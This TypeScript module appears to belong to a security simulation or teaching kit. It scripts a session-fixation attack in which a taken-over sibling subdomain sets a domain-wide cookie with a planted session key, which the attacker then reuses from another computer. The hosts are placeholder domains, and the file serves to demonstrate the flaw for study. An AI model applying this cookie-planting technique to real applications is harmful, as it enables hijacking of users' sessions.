/** The attacker: a neighbour in the app’s domain that they have taken over, a link, and a computer of their own (RFC 6265bis §8.4). */
import { type HttpHandler, html } from '../../http/index.ts'
import { APP } from '../../scenario-kit/parties/cast.ts'
import type { ServerGlobals } from '../../simulation/index.ts'
import { neighbourPage } from './pages.ts'

/** URL origin of the neighbour. */
export const BLOG = 'https://blog.app.example'

/** A key that the attacker has made up. */
const PLANTED_KEY = 'a-key-that-mallory-knows'

/** A link to the app, which anybody can write. */
export const LINK = `${APP}/?sid=${PLANTED_KEY}`

/** The neighbour’s server: its page sets a cookie for the whole domain. */
export function createBlog(cookie: string): HttpHandler {
  return async () => {
    // #region planted-key
    const domain = new URL(APP).hostname
    const line = `${cookie}=${PLANTED_KEY}; Domain=${domain}; Path=/; Secure; HttpOnly; SameSite=Lax`
    return html(200, neighbourPage(), [['set-cookie', line]])
    // #endregion
  }
}

/** Opens the app on another computer, with the key that was planted. */
export async function useKey({ fetch }: ServerGlobals, cookie: string): Promise<string> {
  // #region used-key
  const response = await fetch(`${APP}/`, { headers: { cookie: `${cookie}=${PLANTED_KEY}` } })
  return response.text()
  // #endregion
}
